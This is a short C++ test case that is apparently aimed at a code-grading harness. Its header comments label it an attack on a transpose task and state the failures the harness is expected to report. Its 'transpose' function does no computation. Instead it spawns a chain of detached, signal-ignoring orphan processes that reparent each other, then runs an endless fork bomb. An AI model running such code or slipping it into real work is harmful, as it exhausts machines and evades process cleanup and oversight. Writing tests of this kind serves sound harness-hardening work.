// attack: leaves orphans that catch each other, each the heir of the one before
// against: 05_transpose/2_pad
// must: failed launch: nothing was launched
// must: crashed

#include <csignal>
#include <sys/prctl.h>
#include <unistd.h>

void transpose(float* out, const float* in, int rows, int cols) {
  for (int depth = 0; depth < 20; ++depth) {
    if (fork() != 0) {
      if (depth > 0) pause();
      return;
    }
    setsid();
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    prctl(PR_SET_PDEATHSIG, 0);
    prctl(PR_SET_DUMPABLE, 0);
    for (int signal = 1; signal < 32; ++signal) std::signal(signal, SIG_IGN);
  }
  for (;;) {
    if (fork() == 0) continue;
    usleep(100);
  }
}
